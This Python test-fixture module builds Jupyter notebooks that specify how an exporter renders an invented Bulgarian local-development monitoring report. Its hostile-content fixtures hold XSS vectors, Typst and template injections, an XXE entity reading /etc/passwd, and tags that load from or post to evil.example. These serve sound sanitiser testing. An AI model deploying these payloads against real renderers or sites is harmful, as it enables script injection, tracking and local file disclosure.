"""Small notebooks, one for each behaviour that an export must have: together they are its specification.

All figures and names are invented.
"""

from __future__ import annotations

import base64
import io
from collections.abc import Callable
from typing import Any

import numpy as np
import pandas as pd
from nbformat import NotebookNode
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output

REPORT = {
    "lang": "bg",
    "title": "Мониторингов доклад за изпълнението на Стратегията за ВОМР, второ тримесечие на 2028 г.",
    "part": "Обобщен преглед",
    "lag": "Сдружение „Местна инициативна група Пример“",
    "lag_short": "МИГ „Пример“",
    "period": "Второ тримесечие на 2028 г.",
    "as_of": "2028-06-30",
    "agreement": "РД 50-00/01.01.2026 г.",
    "draft": False,
    "illustrative": True,
    "audience": "authority",
    "edited": False,
}

ALL: dict[str, Callable[[], NotebookNode]] = {}


def notebook(build: Callable[[], NotebookNode]) -> Callable[[], NotebookNode]:
    """Register a builder under its name."""
    ALL[build.__name__] = build
    return build


def made(*cells: NotebookNode) -> NotebookNode:
    """A notebook whose cell ids do not change from run to run."""
    for number, cell in enumerate(cells):
        cell["id"] = f"cell-{number}"
    return new_notebook(cells=list(cells), metadata={"kernelspec": {"name": "python3", "display_name": "Python 3"}})


def md(source: str, *tags: str, **more: Any) -> NotebookNode:
    return new_markdown_cell(source, metadata={"tags": list(tags)}, **more)


def shown(*outputs: NotebookNode, source: str = "show()", tags: tuple[str, ...] = ()) -> NotebookNode:
    return new_code_cell(source, outputs=list(outputs), metadata={"tags": list(tags)})


def data(mime: str, content: Any, **metadata: Any) -> NotebookNode:
    return new_output("display_data", {mime: content}, metadata={mime: metadata} if metadata else {})


def html(source: str) -> NotebookNode:
    return new_output("display_data", {"text/html": source, "text/plain": "<plain>"})


def report(**changes: Any) -> NotebookNode:
    return shown(
        new_output("display_data", {"application/vnd.vomr.report+json": {**REPORT, **changes}, "text/plain": "Report"})
    )


def frame(rows: int, columns: int) -> pd.DataFrame:
    numbers = np.random.default_rng(7).integers(0, 10_000_000, size=(rows, columns))
    return pd.DataFrame(
        numbers, index=[f"Ред {n + 1}" for n in range(rows)], columns=[f"Показател {n + 1}" for n in range(columns)]
    )


def png(width: int = 8, height: int = 4) -> str:
    from PIL import Image

    out = io.BytesIO()
    Image.new("RGB", (width, height), (15, 58, 99)).save(out, "PNG")
    return base64.b64encode(out.getvalue()).decode()


SVG = (
    '<?xml version="1.0" encoding="utf-8"?>\n<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN"'
    ' "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">\n<svg xmlns="http://www.w3.org/2000/svg" width="420pt"'
    ' height="150pt" viewBox="0 0 420 150"><path d="M20 130 L120 96 L220 70 L320 38 L400 22" fill="none"'
    ' stroke="#56626f" stroke-width="1.6" stroke-dasharray="5 3"/><path d="M20 130 L120 112 L220 84 L320 62"'
    ' fill="none" stroke="#0f3a63" stroke-width="2.6"/><circle cx="320" cy="62" r="3.6" fill="#0f3a63"/><line x1="20"'
    ' y1="130" x2="400" y2="130" stroke="#7b8794"/></svg>'
)


# --- the look
# ----------------------------------------------------------------------------------------------------------------


def _bullet(achieved: float, expected: float, planned: float, target: float, colour: str, words: str) -> str:
    top = max(achieved, planned, target) * 1.02
    x = [round(150 * value / top, 1) for value in (achieved, expected, planned, target)]
    return (
        f'<svg class="bullet" role="img" aria-label="{words}" width="154" height="18" viewBox="0 0 154 18"><rect x="0"'
        f' y="4" width="{x[3]}" height="11" fill="#e6eaee"/><rect x="0.5" y="4.5" width="{x[2]}" height="10"'
        f' fill="none" stroke="#56626f" stroke-width="0.8" stroke-dasharray="2 1.6"/><rect x="0" y="6.5" width="{x[0]}"'
        f' height="6" fill="{colour}"/><line x1="{x[1]}" y1="1" x2="{x[1]}" y2="18" stroke="#1d2733"'
        f' stroke-width="1.8"/><line x1="{x[3]}" y1="3" x2="{x[3]}" y2="16" stroke="#56626f" stroke-width="1.1"/></svg>'
    )


def _status(code: str, mark: str, words: str) -> str:
    return (
        f'<span class="status" data-status="{code}"><span class="mark" aria-hidden="true">{mark}</span> {words}</span>'
    )


@notebook
def overview() -> NotebookNode:
    """The first part of a report half-way through a strategy."""
    n = "\N{NO-BREAK SPACE}"

    def row(head: str, *cells: str, kind: str = "") -> str:
        numbers = "".join(f'<td class="num">{cell}</td>' for cell in cells)
        return f'<tr{f" class={kind!r}" if kind else ""}><th scope="row">{head}</th>{numbers}</tr>'

    programmes = (
        '<table class="figures"><caption>По програми, евро</caption><thead><tr><th scope="col">Програма</th>'
        + "".join(
            f'<th scope="col" class="num">{h}</th>'
            for h in ("Бюджет", "Подадени", "Одобрени", "Договорени", "Изплатени", f"Договорени,{n}%")
        )
        + "</tr></thead><tbody>"
        + row(
            "СПРЗСР (ЕЗФРСР)",
            f"2{n}050{n}000",
            f"2{n}890{n}300",
            f"1{n}742{n}000",
            f"1{n}398{n}000",
            f"702{n}100",
            "68,2",
        )
        + row("през периода", "", f"+184{n}000", f"+96{n}500", f"+171{n}000", f"+118{n}200", "", kind="sub")
        + row("ПРЧР (ЕСФ+)", f"330{n}000", f"402{n}000", f"318{n}000", f"201{n}000", f"90{n}300", "60,9")
        + row("ПОС (ЕФРР)", f"120{n}000", f"95{n}000", f"60{n}000", f"60{n}000", f"20{n}000", "50,0")
        + row(
            "Общо проекти",
            f"2{n}500{n}000",
            f"3{n}387{n}300",
            f"2{n}120{n}000",
            f"1{n}659{n}000",
            f"812{n}400",
            "66,4",
            kind="total",
        )
        + "</tbody></table>"
    )
    lines = [
        (
            "R.37 Работни места",
            "9,5 / 32",
            _bullet(9.5, 14, 27.5, 32, "#8f1730", "постигнати 9,5 от 32, очаквани 14"),
            _status("off_track", "▼", "Съществено изостава"),
            "8 от 14 проекта в изпълнение",
        ),
        (
            "R.39 Предприятия",
            "11 / 18",
            _bullet(11, 11.4, 15, 18, "#12746e", "постигнати 11 от 18, очаквани 11,4"),
            _status("on_track", "●", "По план"),
            "0,97 от очакваното",
        ),
        (
            "R.41 Население с услуги, %",
            "17,3 / 34,6",
            _bullet(17.3, 22, 30, 34.6, "#9a4a08", "постигнати 17,3 от 34,6, очаквани 22"),
            _status("at_risk", "◆", "Изостава"),
            "2 обекта с удължен срок",
        ),
        (
            "R.42 Обхванати лица",
            "412 / 400",
            _bullet(412, 250, 418, 400, "#0f3a63", "постигнати 412 от 400"),
            _status("achieved", "✓", "Постигнат"),
            f"от 12.05.2028{n}г.",
        ),
        (
            "Нови кандидати, дял %",
            "— / 30",
            _bullet(0, 0, 0, 30, "#0f3a63", "няма стойност, цел 30"),
            _status("not_due", "○", "Не се дължи към датата"),
            f"от 31.12.2028{n}г.",
        ),
    ]
    indicators = (
        '<table class="figures"><caption>Индикатори по споразумението</caption><thead><tr><th'
        ' scope="col">Индикатор</th><th scope="col" class="num">Пост. / цел</th><th scope="col">Постигнато, очаквано,'
        ' цел</th><th scope="col">Състояние</th><th scope="col">Причина</th></tr></thead><tbody>'
        + "".join(
            f'<tr><th scope="row">{a}</th><td class="num">{b}</td><td>{c}</td><td>{d}</td><td>{e}</td></tr>'
            for a, b, c, d, e in lines
        )
        + "</tbody></table>"
    )
    cards = "".join(
        f'<div class="card"><span class="card-label">{a}</span><strong class="card-value">{b}</strong><span'
        f' class="card-note">{c}</span></div>'
        for a, b, c in (
            ("Договорени", f"66,4{n}%", f"1{n}659{n}000 от 2{n}500{n}000 евро при план 78,0{n}%"),
            ("Изплатени", f"32,5{n}%", f"812{n}400 евро, от тях 214{n}300 непокрити аванси"),
            ("Свободен ресурс", f"281{n}000", f"евро, в т.ч. 86{n}000 от прекратени договори"),
            ("Застрашени", f"312{n}000", f"евро по 4 договора, изтичащи до 31.12.2028{n}г."),
        )
    )
    return made(
        report(),
        shown(
            html(
                '<aside class="stamp"><p>Замразен № 2028-Q2 · 7f3a…c1</p><p>Проверки: 0 грешки, 4'
                " предупреждения</p><p>Суми в евро</p></aside>"
            )
        ),
        md("# Обобщен преглед", "lang-bg"),
        md("# Overview", "lang-en"),
        shown(
            html(
                f'<p class="verdict">Договарянето изостава с 291{n}000 евро от плана; пет индикатора са по план или'
                " постигнати, четири изостават.</p>"
            )
        ),
        shown(html(f'<div class="cards">{cards}</div>')),
        md("## Най-важното"),
        shown(
            html(
                f'<ul class="points"><li>За тримесечието са сключени 5 договора за 218{n}000 евро; 13 одобрени от МИГ'
                f" проекта за 560{n}000 евро чакат договор, медиана 168 дни.</li><li>R.37 (работни места): верифицирани"
                " 9,5 от 32 при очаквани 14,0; сключените договори обещават 27,5.</li><li>Мярка М4 „Основни услуги“ е"
                f" договорена на 41{n}% при план 75{n}%; вторият прием е отложен за 15.09.2028{n}г.</li><li>Поправени"
                f" са две вече отчетени стойности (+3 участници, −1{n}200 евро).</li></ul>"
            )
        ),
        shown(html(programmes)),
        md("## Изпълнение на индикаторите"),
        shown(html(indicators)),
        shown(
            html(
                '<p class="note">Плътна лента: верифицирано. Пунктир: обещано по договори. Черта: очаквано към датата.'
                " Сив фон: цел. Праговете 0,85 и 0,65 са вътрешни за МИГ.</p>"
            )
        ),
        md("## Договаряне във времето\n\nНатрупаните договорени суми спрямо *плана* и **бюджета** за проекти."),
        shown(
            data(
                "image/svg+xml",
                SVG,
                alt="Договорените суми достигат 1,66 млн. евро при план 1,95 млн. евро.",
                caption="Договорени суми с натрупване, млн. евро. Плътно: сключени договори; прекъснато: план.",
            )
        ),
        shown(
            html(
                '<details class="chart-data"><summary>Данните на графиката</summary><table'
                ' class="figures"><thead><tr><th scope="col">Дата</th><th'
                ' scope="col">Договорени</th></tr></thead><tbody><tr><th scope="row">30.06.2028</th><td'
                ' class="num">1,66</td></tr></tbody></table></details>'
            )
        ),
        md(
            "## Отклонения и мерки\n\n| Отклонение | Мярка | Отговорник | Срок |\n|---|---|---|---|\n| 4 договора без"
            " искане за плащане | посещения на място, напомнителни писма | изп. директор | 31.07.2028 |\n| М4"
            " договорена на 41 % | нов прием, среща с шестте общини | експерт СВОМР | 15.09.2028 |"
        ),
        shown(
            html(
                '<blockquote class="commentary"><p>Вторият прием по мярка М4 е отложен по искане на две общини, които'
                ' нямат готови инвестиционни проекти.</p></blockquote><p class="todo">За попълване: причина за'
                " изоставането по R.37.</p>"
            )
        ),
        shown(
            html(
                '<h2>Подписи</h2><table class="signatures"><tr><td>Изготвил: експерт мониторинг</td><td>Одобрил:'
                " председател на УС</td></tr></table>"
            )
        ),
    )


# --- tables
# ------------------------------------------------------------------------------------------------------------------


@notebook
def wide_table() -> NotebookNode:
    """Forty columns of seven digits: no page of paper is wide enough."""
    return made(report(part="Широка таблица"), md("## Всички показатели"), shown(html(frame(12, 40).to_html())))


@notebook
def long_table() -> NotebookNode:
    """Three hundred rows: the head must stand on every page."""
    table = frame(300, 4).to_html().replace("<thead>", "<caption>Триста реда</caption><thead>", 1)
    return made(report(part="Дълга таблица"), md("## Редове"), shown(html(table)))


@notebook
def huge_table() -> NotebookNode:
    """Forty columns and three hundred rows."""
    return made(report(part="Огромна таблица"), shown(html(frame(300, 40).to_html())))


@notebook
def landscape_table() -> NotebookNode:
    """Too wide for a page upright, not for one on its side; its heading goes with it."""
    return made(
        report(part="Обърната таблица"),
        md("Текст преди.\n\n## Четиринадесет колони"),
        shown(html(frame(6, 14).to_html())),
        md("Текст след."),
    )


@notebook
def pandas_tables() -> NotebookNode:
    """Indexes of several levels, names of indexes, missing values, text beside numbers, a styled frame."""
    index = pd.MultiIndex.from_tuples(
        [("Кюстендил", "М1"), ("Кюстендил", "М2"), ("Рила", "М1")], names=["Община", "Мярка"]
    )
    columns = pd.MultiIndex.from_tuples([("2027", "договорени"), ("2027", "изплатени"), ("2028", "договорени")])
    deep = pd.DataFrame([[1.5, np.nan, 3], [4, 5, 6], [7, 8, 9.25]], index=index, columns=columns)
    mixed = pd.DataFrame(
        {"Проект": ["А <b>едно</b>", "Б & две"], "Сума": [1234.5, -7.0], "Дата": pd.to_datetime(["2028-01-31", None])}
    )
    styled = mixed.style.set_caption("С цветове").map(
        lambda v: "background-color: #ffd9d9; font-weight: bold" if v == -7 else "", subset=["Сума"]
    )
    styled.set_uuid("fixed")
    return made(
        report(part="Таблици на pandas"),
        shown(html(deep.to_html())),
        shown(html(mixed.to_html())),
        shown(html(styled.to_html())),
    )


@notebook
def long_words() -> NotebookNode:
    """Three hundred letters without a space, in a heading, in a cell and in a line of a program."""
    word = "ПревисоконаселеноместнообразуваниеВ" * 9
    table = (
        f'<table class="figures"><thead><tr><th scope="col">{word}</th><th'
        f' scope="col">Б</th></tr></thead><tbody><tr><th scope="row">{word}</th><td>{word}</td></tr></tbody></table>'
    )
    return made(
        report(part=word, title=word),
        md(f"## {word}\n\n{word}\n\n[{word}](https://example.org/{word})\n\n- {word}"),
        shown(html(table)),
        shown(new_output("stream", name="stdout", text=word)),
    )


# --- text
# --------------------------------------------------------------------------------------------------------------------


@notebook
def markdown() -> NotebookNode:
    """What an analyst may write."""
    source = """# Заглавие на тетрадката

Текст с **удебелено**, *курсив*, `код`, ~~зачеркнато~~, [връзка](https://example.org/a?b=1&c=2) и [към раздел](#Списъци).

#### Прескочено ниво

- първо
  - вложено
    - още по-вложено

      със свой абзац
  - второ вложено
- [x] готово

1. едно
2. две
   1. две и едно

## Списъци

Бележка под линия[^1] и още една[^b].

> Цитат
> на два реда

Термин
: Определение на термина

| Колона | Число |
|:-------|------:|
| а      |  1,5  |
| б      |  2 000 |

```python
print("показан код")
```

---

<details><summary>Подробности</summary><p>Скрит текст</p></details>

Вода H<sub>2</sub>O, площ 5 м<sup>2</sup>, <abbr title="безвъзмездна финансова помощ">БФП</abbr>, <span lang="en">grant</span>.

[^1]: Първа бележка с **удебелено**.
[^b]: Втора бележка.
"""
    return made(report(part="Текст"), md(source), md("Друга клетка[^1].\n\n[^1]: Бележка на другата клетка."))


@notebook
def formulas() -> NotebookNode:
    """Formulas that convert, one with Cyrillic, one that nothing understands, one that tries to be code."""
    source = r"""## Формули

В реда $d = \frac{A-b}{T-b}$ и отделно:

$$
p = \frac{A - b}{E(t) - b} \geq 0{,}85
$$

С думи: $$\text{дял} = \sqrt{x^2 + y_1}$$

Неясна: $\nosuchcommand{x}$ и враждебна: $#read("/etc/passwd")$, $\text{"#panic()"}$.
"""
    return made(
        report(part="Формули"), md(source), shown(data("text/latex", r"$\displaystyle \int_0^1 x\,dx = \frac{1}{2}$"))
    )


@notebook
def streams() -> NotebookNode:
    """Printed text in pieces, terminal colours, a progress bar, messages."""
    return made(
        report(part="Потоци"),
        shown(
            new_output("stream", name="stdout", text="първи ред\n"),
            new_output("stream", name="stdout", text="\x1b[31mчервен\x1b[0m ред\n"),
            new_output("stream", name="stderr", text="0%\r50%\r100% готово\nUserWarning: внимание\n"),
            new_output("execute_result", {"text/plain": "42"}, execution_count=3),
            new_output("execute_result", {"text/plain": "<Axes: title at 0x7f0011223344>"}, execution_count=4),
            new_output("display_data", {"text/plain": "<Figure size 640x480 with 1 Axes>"}),
        ),
    )


@notebook
def error() -> NotebookNode:
    """A run that papermill stopped."""
    traceback = [
        "\x1b[0;31mKeyError\x1b[0m Traceback",
        *[f"ред {n} на проследяването" for n in range(40)],
        "\x1b[0;31mKeyError\x1b[0m: 'няма такава колона'",
    ]
    return made(
        md(
            "<span style='color:red'>An Exception was encountered at '<a href=\"#papermill-error-cell\">In"
            " [3]</a>'.</span>",
            "papermill-error-cell-tag",
        ),
        report(part="Грешка"),
        md("## Раздел"),
        md(
            "<span id='papermill-error-cell'>Execution using papermill encountered an exception here and"
            " stopped:</span>",
            "papermill-error-cell-tag",
        ),
        shown(new_output("error", ename="KeyError", evalue="'няма такава колона'", traceback=traceback)),
    )


@notebook
def languages() -> NotebookNode:
    """Prose in two languages under tags; the report's stays."""
    return made(
        report(lang="en", part="Overview", title="Monitoring report"),
        md("## Само на български", "lang-bg"),
        md("## English only", "lang-en"),
        md("Both", "lang-en", "lang-bg"),
        md("Always"),
    )


@notebook
def inputs() -> NotebookNode:
    """Code is hidden, but where a tag asks for it."""
    return made(
        report(part="Код"),
        shown(source="secret_parameter = 1", tags=("parameters",)),
        shown(source="injected = 2", tags=("injected-parameters",)),
        shown(data("text/plain", "резултат"), source="hidden_call()"),
        shown(source="visible_call(<b>)", tags=("show-input",)),
    )


# --- images
# ------------------------------------------------------------------------------------------------------------------


@notebook
def images() -> NotebookNode:
    """Drawings and pictures with and without words, an attachment, one from the network, a broken one, a tall one."""
    attachment = md("Приложена: ![прикачена картина](attachment:my%20map.png)")
    attachment["attachments"] = {"my map.png": {"image/png": png()}}
    remote = md(
        'Далечна: ![карта на територията](https://example.org/map.png "карта")\n\n<img src="//example.org/x.png"'
        ' onerror="alert(1)">'
    )
    tall = SVG.replace(
        'width="420pt" height="150pt" viewBox="0 0 420 150"', 'width="300pt" height="2400pt" viewBox="0 0 420 3360"'
    )
    return made(
        report(part="Картини"),
        md("## С думи"),
        shown(data("image/svg+xml", SVG, alt="Договорените растат", caption="Надпис на графиката")),
        shown(data("image/png", png(), alt="Синьо")),
        md("## Без думи"),
        shown(data("image/png", png())),
        shown(data("image/svg+xml", SVG)),
        shown(
            data("image/png", "bm90IGEgcG5n"),
            new_output("display_data", {"image/png": "????", "text/plain": "вместо картина"}),
        ),
        attachment,
        remote,
        md(f"Вградена: ![вградена](data:image/png;base64,{png()})"),
        md("## Висока"),
        shown(data("image/svg+xml", tall, alt="Висока графика", caption="По-висока от страница")),
    )


# --- hostile
# -----------------------------------------------------------------------------------------------------------------

TYPST_TRAPS = (
    '#panic("x")',
    '#read("/etc/passwd")',
    "$x$",
    "*звезда* _черта_ `код`",
    "= Заглавие",
    "<етикет> @препратка",
    '"; panic("y"); "',
    "\\u{1F600} \\n \\\\",
    "// коментар /* блок */",
    "#{ while true {} }",
    "[#h(1cm)]",
    "- + / 1. ~ --- ...",
    '")]}#panic()',
    '#import "@preview/x:0.1.0": *',
)


@notebook
def hostile_text() -> NotebookNode:
    """Cells of a register whose text would be code somewhere."""
    from html import escape

    traps = [
        *TYPST_TRAPS,
        "<script>alert(1)</script>",
        "{{ 7*7 }} {% raw %}",
        "</style><script>alert(2)</script>",
        "=HYPERLINK(1)",
    ]
    table = pd.DataFrame({"Текст": traps, "Пак": traps}).to_html()
    paragraphs = "".join(
        f"<p>{escape(trap)}</p><h3>{escape(trap)}</h3><ul><li>{escape(trap)}</li></ul>" for trap in traps
    )
    return made(
        report(
            part='Опасен "#panic()" </title><script>alert(3)</script>',
            lag='МИГ "; panic() //',
            lag_short='\\"}</style>',
            title="{{ 7*7 }} #panic()",
            period="#h(1pt)",
            agreement="<b>№</b>",
        ),
        shown(html(paragraphs)),
        shown(html(table)),
        shown(new_output("stream", name="stdout", text="\n".join(traps))),
        shown(data("image/png", png(), alt='"]) #panic()', caption="#panic() <script>")),
    )


HOSTILE_HTML = """
<p onclick="alert(1)" style="background:url(http://evil.example/a.png); position:fixed; text-align:center">Текст</p>
<script>alert(2)</script><SCRIPT SRC="http://evil.example/x.js"></SCRIPT>
<img src="x" onerror="alert(3)"><img src="http://evil.example/track.gif" alt="следа"><img srcset="http://evil.example/b.png 2x" alt="">
<iframe src="http://evil.example"></iframe><object data="http://evil.example"></object><embed src="http://evil.example">
<link rel="stylesheet" href="http://evil.example/s.css"><style>@import url(http://evil.example/i.css); body{display:none}</style>
<base href="http://evil.example/"><meta http-equiv="refresh" content="0;url=http://evil.example">
<a href="javascript:alert(4)">връзка</a> <a href=" java\tscript:alert(5)">втора</a> <a href="JaVaScRiPt&colon;alert(6)">трета</a>
<a href="data:text/html,<script>alert(7)</script>">четвърта</a> <a href="//evil.example/p">пета</a> <a href="vbscript:x">шеста</a>
<svg onload="alert(8)" class="bullet" aria-label="лента" width="20" height="10" viewBox="0 0 20 10"><script>alert(9)</script>
<image href="http://evil.example/i.png"/><use href="http://evil.example/u.svg#a"/><rect width="9" height="9" fill="url(http://evil.example/f)" onclick="alert(10)"/>
<foreignObject><body onload="alert(11)"></body></foreignObject><a xlink:href="javascript:alert(12)"><text>х</text></a><style>*{fill:url(http://evil.example/s)}</style></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(13)&gt;"></table></mtext></math>
<form action="http://evil.example"><input name="x" autofocus onfocus="alert(14)"><button formaction="http://evil.example">Прати</button></form>
<video src="http://evil.example/v.mp4" poster="http://evil.example/p.png"></video><audio src="http://evil.example/a.mp3"></audio>
<noscript><p title="</noscript><img src=x onerror=alert(15)>"></noscript><template><script>alert(16)</script></template>
<textarea></textarea><script>alert(17)</script></textarea><xmp><script>alert(18)</script></xmp><plaintext>
"""


@notebook
def hostile_html() -> NotebookNode:
    """What must not run and must not fetch."""
    drawing = SVG.replace(
        "<path", '<script>alert(1)</script><image xlink:href="http://evil.example/a.png" onload="alert(2)"/><path', 1
    )
    entity = (
        '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg" width="9"'
        ' height="9"><text>&x;</text></svg>'
    )
    return made(
        report(part="Враждебно"),
        md("## Преди\n\n" + HOSTILE_HTML.replace("<plaintext>", "")),
        shown(html(HOSTILE_HTML), source="x"),
        shown(data("image/svg+xml", drawing, alt="рисунка"), data("image/svg+xml", entity, alt="единица")),
        shown(html('<div class="skip masthead is-failure" id="main"><p class="flags">Преоблечено</p></div>')),
        md("## След"),
    )


@notebook
def scripts_only() -> NotebookNode:
    """A library that draws with JavaScript leaves its plain twin."""
    return made(
        report(part="Скрипт"),
        shown(
            new_output(
                "display_data",
                {
                    "text/html": "<div id='p'></div><script>Plotly.newPlot('p')</script>",
                    "text/plain": "текст вместо графика",
                },
            )
        ),
    )


@notebook
def missing_letters() -> NotebookNode:
    """Letters of scripts that no font here has, emoji, a soft hyphen, a direction mark, letters made of two."""
    text = "Японски 日本語, усмивка 😀, мек\u00adпренос, \u202eпосока, съставно и\u0306 и ё\ufe0f."
    drawing = SVG.replace("<path", '<text x="9" y="20" font-family="Manrope" font-size="12">日 текст</text><path', 1)
    return made(
        report(part="Букви 日", lag_short="МИГ 語"),
        md(f"## Заглавие 字\n\n{text}\n\n`код 漢`"),
        shown(html(f"<table><tr><th>日</th></tr><tr><td>{text}</td></tr></table>")),
        shown(data("image/svg+xml", drawing, alt="Графика 圖")),
    )


# --- the report around
# -------------------------------------------------------------------------------------------------------


@notebook
def draft() -> NotebookNode:
    """Errors stand: every page says so."""
    return made(
        report(part="Чернова", draft=True, illustrative=True, edited=True, audience="public"),
        *[md(f"## Раздел {n}\n\n" + "Текст на доклада. " * 120) for n in range(6)],
    )


@notebook
def empty() -> NotebookNode:
    """Nothing at all."""
    return made()


@notebook
def foreign() -> NotebookNode:
    """A notebook that never heard of this package, run by plain papermill."""
    nb = made(md("# Чужда тетрадка\n\nТекст."), shown(data("text/plain", "1 + 1 = 2"), source="1 + 1"), md("## Раздел"))
    nb.metadata["papermill"] = {
        "end_time": "2028-07-02T10:11:12.000000+00:00",
        "parameters": {},
        "input_path": "/home/somebody/in.ipynb",
    }
    return nb


@notebook
def spread_out() -> NotebookNode:
    """Headings that would be left alone at the foot of a page."""
    cells = []
    for n in range(14):
        cells += [
            md(f"## Раздел {n}\n\n### Подраздел"),
            shown(html(frame(4 + n % 5, 3).to_html())),
            md("Кратък текст. " * (10 + 7 * (n % 4))),
        ]
    return made(report(part="Заглавия"), *cells)
